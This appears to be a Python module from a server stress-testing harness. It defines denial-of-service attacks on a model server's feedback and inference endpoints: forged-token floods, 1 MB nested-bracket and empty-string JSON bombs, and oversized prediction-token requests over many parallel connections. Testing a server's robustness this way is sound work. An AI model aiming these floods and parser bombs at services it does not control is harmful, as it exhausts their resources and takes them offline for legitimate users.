"""Prediction tokens, and feedback: what costs the server more than it costs the caller."""

from __future__ import annotations

import orjson
from attacks.aim import AGAIN, Aim, attack
from attacks.bombs import filled, repeated
from attacks.questions import NAME, post, zeros

FEEDBACK = f"/v2/models/{NAME}/feedback"


@attack("feedback: 10,000 forged tokens in a request, 16 connections")
def forged(aim: Aim) -> None:
    entries = {"tokens": [48 * "A"] * 10_000, "truth": [0] * 10_000}
    aim.http(repeated(post(orjson.dumps(entries), FEEDBACK)), AGAIN, 16)


@attack("feedback: 1 MB of nested brackets, and of empty texts, 8 connections")
def bombs(aim: Aim) -> None:
    for piece in (b"[[[[[[[[", b'""'):
        body = filled(b'{"truth":[],"tokens":[', piece, b"]}", 2**20)
        aim.http(repeated(post(body, FEEDBACK)), AGAIN, 4)


@attack("prediction tokens for 1,024 rows at a time, 16 connections")
def tokens(aim: Aim) -> None:
    header, content = zeros(1_024)
    more = header[:-1] + b',"parameters":{"prediction_tokens":true,"binary_data_output":true}}'
    request = post(more + content, Inference_Header_Content_Length=str(len(more)))
    aim.http(repeated(request), AGAIN, 16)
